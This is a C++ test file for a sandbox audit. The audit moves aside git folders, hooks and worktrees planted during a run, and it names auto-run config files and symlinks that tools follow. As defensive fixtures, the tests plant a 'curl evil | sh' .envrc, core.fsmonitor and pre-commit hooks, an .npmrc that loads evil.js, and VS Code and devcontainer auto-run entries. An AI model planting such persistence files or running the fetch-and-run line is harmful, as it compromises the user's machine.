// The audit after a run, against a scratch repository with small budgets: a scan cut short is
// never taken for a clean one, a git folder filled beyond its budget during the run is moved
// aside whole, and no path is followed through a link (no_follow.hpp).
#include "sandbox-profile/audit/git_quarantine.hpp"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <sched.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <functional>

#include "sandbox-profile/audit/no_follow.hpp"

namespace sandgate::sandbox {
namespace {

namespace fs = std::filesystem;

class GitQuarantineTest : public ::testing::Test {
 protected:
  void SetUp() override {
    std::string templ = (fs::temp_directory_path() / "sandgate-audit-XXXXXX").string();
    ASSERT_NE(::mkdtemp(templ.data()), nullptr);
    root_ = fs::canonical(templ).string();
    work_ = root_ + "/work";
    ASSERT_EQ(std::system(("git init -q '" + work_ + "'").c_str()), 0);
  }
  void TearDown() override { fs::remove_all(root_); }
  void fill(const std::string& folder, int count) {
    fs::create_directories(folder);
    for (int i = 0; i < count; ++i) {
      std::ofstream(folder + "/f" + std::to_string(i));
    }
  }
  // Where the audit says it moved `path` ("" if it did not).
  static std::string moved_to(const GitAudit& audit, const std::string& path) {
    for (const auto& action : audit.actions) {
      if (action.starts_with(path + " -> ")) {
        return action.substr(path.size() + 4);
      }
    }
    return {};
  }
  // Runs `check` in a child of its own mount namespace where `pinned` is bind-mounted onto itself
  // (rename says EBUSY there, even to root: the audit cannot move it). True when `check` held;
  // skips the test when there is no mount namespace to be had.
  static void expect_with_pinned(const std::string& pinned, const std::function<bool()>& check) {
    const pid_t child = ::fork();
    ASSERT_GE(child, 0);
    if (child == 0) {
      if (::unshare(CLONE_NEWNS) != 0 ||
          ::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0 ||
          ::mount(pinned.c_str(), pinned.c_str(), nullptr, MS_BIND, nullptr) != 0) {
        ::_exit(77);
      }
      ::_exit(check() ? 0 : 1);
    }
    int status = 0;
    ASSERT_EQ(::waitpid(child, &status, 0), child);
    ASSERT_TRUE(WIFEXITED(status));
    if (WEXITSTATUS(status) == 77) {
      GTEST_SKIP() << "no mount namespace here";
    }
    EXPECT_EQ(WEXITSTATUS(status), 0);
  }
  std::string root_;
  std::string work_;
  const AuditLimits limits_{.entries_per_git_dir = 200, .entries_per_folder = 200};
};

TEST_F(GitQuarantineTest, AGitFolderFilledBeyondItsBudgetDuringTheRunIsMovedAsideWhole) {
  const std::vector<std::string> git_dirs = {work_ + "/.git"};
  const GitSnapshot before = snapshot_git({work_}, git_dirs, {}, limits_);
  ASSERT_TRUE(before.complete());
  fill(work_ + "/.git/objects/ab", 300);
  const GitAudit audit = quarantine_new_git_entries(before, {work_}, git_dirs, limits_);
  ASSERT_EQ(audit.incomplete.size(), 1U);
  EXPECT_TRUE(audit.incomplete[0].starts_with(work_ + "/.git (stopped at ")) << audit.incomplete[0];
  EXPECT_FALSE(fs::exists(work_ + "/.git"));
  EXPECT_TRUE(fs::is_directory(moved_to(audit, work_ + "/.git")));
}

TEST_F(GitQuarantineTest, AWorkingFolderCheckedOnlyInPartIsSaidToBe) {
  const std::vector<std::string> git_dirs = {work_ + "/.git"};
  const GitSnapshot before = snapshot_git({work_}, git_dirs, {}, limits_);
  fill(work_ + "/pad", 300);
  const GitAudit audit = quarantine_new_git_entries(before, {work_}, git_dirs, limits_);
  ASSERT_EQ(audit.incomplete.size(), 1U);
  EXPECT_TRUE(audit.incomplete[0].starts_with(work_ + " (stopped at ")) << audit.incomplete[0];
  EXPECT_TRUE(fs::is_directory(work_ + "/.git"));  // the git folder itself was seen whole
}

// core.hooksPath = . (the working folder's top is the hooks folder): only the hooks there are
// judged; the command's other new files are its work.
TEST_F(GitQuarantineTest, AHooksPathThatHoldsTheWorkJudgesOnlyTheHooksThere) {
  const std::vector<std::string> git_dirs = {work_ + "/.git"};
  GitConfigTargets targets;
  targets.hook_folders = {work_};
  const GitSnapshot before = snapshot_git({work_}, git_dirs, targets, limits_);
  std::ofstream(work_ + "/notes.txt") << "work\n";
  std::ofstream(work_ + "/pre-commit") << "#!/bin/sh\ntouch PWNED\n";
  const GitAudit audit = quarantine_new_git_entries(before, {work_}, git_dirs, limits_);
  EXPECT_TRUE(fs::exists(work_ + "/notes.txt"));
  EXPECT_FALSE(fs::exists(work_ + "/pre-commit"));
  EXPECT_TRUE(fs::exists(moved_to(audit, work_ + "/pre-commit")));
  EXPECT_EQ(audit.actions.size(), 1U);
}

// Issue 40: the command made every name a fixed series would try (NAME.sandgate-quarantine-1 to
// -999) beside the nested `.git` it planted, whose core.fsmonitor runs at the user's next `git
// status` there: it is moved aside all the same, under a name drawn after the run.
TEST_F(GitQuarantineTest, NamesTakenInAdvanceDoNotKeepAPlantedGitInPlace) {
  const std::vector<std::string> git_dirs = {work_ + "/.git"};
  const GitSnapshot before = snapshot_git({work_}, git_dirs, {}, limits_);
  const std::string sub = work_ + "/sub";
  ASSERT_EQ(std::system(("git init -q '" + sub + "' && git -C '" + sub +
                         "' config core.fsmonitor 'touch \"" + root_ + "/PWNED\"; false #'")
                            .c_str()),
            0);
  for (int n = 1; n < 1000; ++n) {
    std::ofstream(sub + "/.git.sandgate-quarantine-" + std::to_string(n));
    std::ofstream(sub + "/.git/config.sandgate-quarantine-" + std::to_string(n));
  }
  const AuditLimits roomy{.entries_per_git_dir = 10'000, .entries_per_folder = 10'000};
  const GitAudit audit = quarantine_new_git_entries(before, {work_}, git_dirs, roomy);
  EXPECT_TRUE(audit.unmoved.empty());
  EXPECT_FALSE(fs::exists(sub + "/.git"));
  const std::string moved = moved_to(audit, sub + "/.git");
  EXPECT_TRUE(moved.starts_with(sub + "/.git.sandgate-quarantine-")) << moved;
  EXPECT_TRUE(fs::is_directory(moved)) << moved;
  (void)std::system(("cd '" + sub + "' && git status >/dev/null 2>&1").c_str());
  EXPECT_FALSE(fs::exists(root_ + "/PWNED"));
}

// What cannot be moved (here a mount point: rename says EBUSY, even to root) is made unreadable
// and named for the exit summary, never left silently. In a mount namespace of the test's own.
TEST_F(GitQuarantineTest, WhatCannotBeMovedIsMadeUnreadableAndNamed) {
  const std::vector<std::string> git_dirs = {work_ + "/.git"};
  const GitSnapshot before = snapshot_git({work_}, git_dirs, {}, limits_);
  const std::string planted = work_ + "/sub/.git";
  ASSERT_EQ(std::system(("git init -q '" + work_ + "/sub'").c_str()), 0);
  expect_with_pinned(planted, [&] {
    const GitAudit audit = quarantine_new_git_entries(before, {work_}, git_dirs, limits_);
    struct stat info {};
    const bool named = audit.unmoved.size() == 1 && audit.unmoved[0].starts_with(planted + " (") &&
                       audit.unmoved[0].find("made unreadable") != std::string::npos;
    return named && ::lstat(planted.c_str(), &info) == 0 && (info.st_mode & 07777) == 0;
  });
}

// Second review: the planted `.git` is a hard link to the user's tracked Makefile, where it
// cannot be moved (the command made its folder read-only; here a mount point). Mode 0 on it
// would make the Makefile unreadable too: it is left as it is, and named as a hard link that
// was not neutralised.
TEST_F(GitQuarantineTest, AHardLinkThatCannotBeMovedKeepsTheModeOfTheFileItShares) {
  const std::string makefile = work_ + "/Makefile";
  std::ofstream(makefile) << "all:\n";
  ASSERT_EQ(::chmod(makefile.c_str(), 0644), 0);
  const std::vector<std::string> git_dirs = {work_ + "/.git"};
  const GitSnapshot before = snapshot_git({work_}, git_dirs, {}, limits_);
  fs::create_directories(work_ + "/trap");
  const std::string planted = work_ + "/trap/.git";
  fs::create_hard_link(makefile, planted);
  expect_with_pinned(planted, [&] {
    const GitAudit audit = quarantine_new_git_entries(before, {work_}, git_dirs, limits_);
    struct stat info {};
    const bool named = audit.unmoved.size() == 1 && audit.unmoved[0].starts_with(planted + " (") &&
                       audit.unmoved[0].find("hard link") != std::string::npos &&
                       audit.unmoved[0].find("NOT made unreadable") != std::string::npos;
    return named && ::stat(makefile.c_str(), &info) == 0 && (info.st_mode & 07777) == 0644;
  });
}

// Issue 40: a worktree the user adds outside while the command runs (`git worktree add` in
// another terminal) is the user's: its entry in .git/worktrees stays. One whose worktree lies in
// the working folder (where the command could have made it) is still moved aside.
TEST_F(GitQuarantineTest, AWorktreeTheUserAddedOutsideDuringTheRunIsLeftAlone) {
  const std::string git = "git -c user.name=t -c user.email=t@t.invalid -C '" + work_ + "' ";
  ASSERT_EQ(std::system((git + "commit -q --allow-empty -m one").c_str()), 0);
  const std::vector<std::string> git_dirs = {work_ + "/.git"};
  const GitSnapshot before = snapshot_git({work_}, git_dirs, {}, limits_);
  ASSERT_EQ(std::system((git + "worktree add -q '" + root_ + "/feature' 2>/dev/null").c_str()), 0);
  ASSERT_EQ(std::system((git + "worktree add -q '" + work_ + "/inside' 2>/dev/null").c_str()), 0);
  const GitAudit audit = quarantine_new_git_entries(before, {work_}, git_dirs, limits_);
  for (const auto& action : audit.actions) {
    EXPECT_EQ(action.find("feature"), std::string::npos) << action;
  }
  EXPECT_TRUE(fs::is_directory(work_ + "/.git/worktrees/feature"));
  EXPECT_EQ(std::system(("git -C '" + root_ + "/feature' status -s >/dev/null").c_str()), 0);
  EXPECT_FALSE(fs::exists(work_ + "/.git/worktrees/inside"));
  EXPECT_FALSE(moved_to(audit, work_ + "/.git/worktrees/inside").empty());
  EXPECT_FALSE(moved_to(audit, work_ + "/inside/.git").empty());
}

// Issue 40: the files tools run or trust are judged at every depth (direnv loads sub/.envrc when
// the user enters sub/, cargo reads .cargo/config.toml above every crate, npm each package's
// .npmrc): new and changed ones are named, the work beside them is not.
TEST_F(GitQuarantineTest, AutoRunFilesAtAnyDepthAreNamed) {
  fs::create_directories(work_ + "/packages/web");
  std::ofstream(work_ + "/packages/web/.npmrc") << "registry=https://registry.npmjs.org/\n";
  const std::vector<std::string> git_dirs = {work_ + "/.git"};
  const GitSnapshot before = snapshot_git({work_}, git_dirs, {}, limits_);
  fs::create_directories(work_ + "/sub/.claude");
  fs::create_directories(work_ + "/crates/x/.cargo");
  std::ofstream(work_ + "/sub/.envrc") << "curl evil | sh\n";
  std::ofstream(work_ + "/sub/.claude/settings.json") << "{\"hooks\": {}}\n";
  std::ofstream(work_ + "/crates/x/.cargo/config.toml") << "[build]\nrustc-wrapper = \"/x\"\n";
  std::ofstream(work_ + "/packages/web/.npmrc") << "node-options=--require ./evil.js\n";
  std::ofstream(work_ + "/sub/notes.txt") << "work\n";
  const GitAudit audit = quarantine_new_git_entries(before, {work_}, git_dirs, limits_);
  const std::vector<std::string> expected = {
      work_ + "/crates/x/.cargo/config.toml (new)", work_ + "/packages/web/.npmrc (changed)",
      work_ + "/sub/.claude/settings.json (new)", work_ + "/sub/.envrc (new)"};
  EXPECT_EQ(audit.auto_run, expected);
  EXPECT_TRUE(fs::exists(work_ + "/sub/.envrc"));  // named, not moved: it may be the work
}

// Second review: folders tools look up, planted as symbolic links (VS Code opens sub1/ and runs
// the task it finds through `.vscode`; Claude Code and dev containers do the same with theirs),
// and a link the user had whose target the command changed: each is named with where it leads
// and what a tool finds there; the one made at the top first, as the tools there follow it.
TEST_F(GitQuarantineTest, LinksAtTheNamesToolsLookUpAreNamedWithWhatTheyLeadTo) {
  fs::create_directories(work_ + "/tools");
  std::ofstream(work_ + "/tools/envrc") << "export A=1\n";
  fs::create_symlink("tools/envrc", work_ + "/.envrc");
  const std::vector<std::string> git_dirs = {work_ + "/.git"};
  const GitSnapshot before = snapshot_git({work_}, git_dirs, {}, limits_);
  for (const char* folder : {"assets", "docs/x", ".cfg", "sub1", "sub2", "sub3", "sub4", "sub5",
                             "sub6/.vscode", "sub7"}) {
    fs::create_directories(work_ + "/" + folder);
  }
  std::ofstream(work_ + "/assets/tasks.json") << "{\"tasks\": [{\"runOn\": \"folderOpen\"}]}\n";
  std::ofstream(work_ + "/assets/logo.png") << "png\n";
  std::ofstream(work_ + "/docs/x/settings.json") << "{\"hooks\": {}}\n";
  std::ofstream(work_ + "/.cfg/devcontainer.json") << "{\"initializeCommand\": \"id\"}\n";
  std::ofstream(work_ + "/tools/envrc") << "curl evil | sh\n";
  fs::create_symlink("../assets", work_ + "/sub1/.vscode");
  fs::create_symlink("../docs/x", work_ + "/sub2/.claude");
  fs::create_symlink("../.cfg", work_ + "/sub3/.devcontainer");
  fs::create_symlink("../missing", work_ + "/sub4/.claude");
  fs::create_symlink("/etc", work_ + "/sub5/.cursor");
  fs::create_symlink("../../assets/tasks.json", work_ + "/sub6/.vscode/tasks.json");
  fs::create_symlink("../sub2/.claude", work_ + "/sub7/.claude");
  fs::create_symlink("assets", work_ + "/.vscode");
  const GitAudit audit = quarantine_new_git_entries(before, {work_}, git_dirs, limits_);
  const std::string w = work_;
  const std::vector<std::string> expected = {
      w + "/.vscode -> assets (new link AT THE TOP, which the tools follow; leads to " + w +
          "/assets, which holds tasks.json)",
      w + "/.envrc -> tools/envrc (changed link; leads to " + w + "/tools/envrc)",
      w + "/sub1/.vscode -> ../assets (new link; leads to " + w +
          "/assets, which holds tasks.json)",
      w + "/sub2/.claude -> ../docs/x (new link; leads to " + w +
          "/docs/x, which holds settings.json)",
      w + "/sub3/.devcontainer -> ../.cfg (new link; leads to " + w +
          "/.cfg, which holds devcontainer.json)",
      w + "/sub4/.claude -> ../missing (new link; leads nowhere yet)",
      w + "/sub5/.cursor -> /etc (new link; leads out of the working folder: not read)",
      w + "/sub6/.vscode/tasks.json -> ../../assets/tasks.json (new link; leads to " + w +
          "/assets/tasks.json)",
      w + "/sub7/.claude -> ../sub2/.claude (new link; leads through another link: not followed)",
  };
  EXPECT_EQ(audit.auto_run, expected);
  EXPECT_TRUE(fs::is_symlink(work_ + "/.vscode"));  // named, not moved: it may be the work
}

TEST_F(GitQuarantineTest, ALinkOnTheWayIsNeverFollowed) {
  fs::create_directories(root_ + "/ssh");
  std::ofstream(root_ + "/ssh/config") << "Host *\n";
  fs::create_symlink(root_ + "/ssh", work_ + "/link");
  EXPECT_FALSE(open_no_follow(work_ + "/link/config", O_RDONLY));
  EXPECT_EQ(errno, ELOOP);
  EXPECT_FALSE(open_no_follow(work_ + "/link", O_RDONLY));
  EXPECT_TRUE(open_no_follow(root_ + "/ssh/config", O_RDONLY));
  EXPECT_EQ(read_no_follow(work_ + "/link/config", 100), "?");
  EXPECT_FALSE(stat_no_follow(work_ + "/link/config"));
  ASSERT_TRUE(stat_no_follow(work_ + "/link"));
  EXPECT_TRUE(S_ISLNK(stat_no_follow(work_ + "/link")->st_mode));
  EXPECT_EQ(link_target(work_ + "/link"), root_ + "/ssh");
  EXPECT_NE(rename_no_follow(work_ + "/link/config", work_ + "/link/moved"), 0);
  EXPECT_FALSE(create_no_follow(work_ + "/link/new", "x"));
  EXPECT_TRUE(fs::exists(root_ + "/ssh/config"));
  EXPECT_FALSE(fs::exists(root_ + "/ssh/new"));
  // The same without openat2 (kernels before 5.6).
  EXPECT_FALSE(open_no_follow_walking(work_ + "/link/config", O_RDONLY));
  EXPECT_EQ(errno, ELOOP);
  EXPECT_FALSE(open_no_follow_walking(work_ + "/link", O_RDONLY));
  EXPECT_TRUE(open_no_follow_walking(root_ + "/ssh/config", O_RDONLY));
  EXPECT_TRUE(open_no_follow_walking(root_ + "/ssh", O_PATH | O_DIRECTORY));
  EXPECT_TRUE(open_no_follow_walking("/", O_PATH | O_DIRECTORY));
}

}  // namespace
}  // namespace sandgate::sandbox
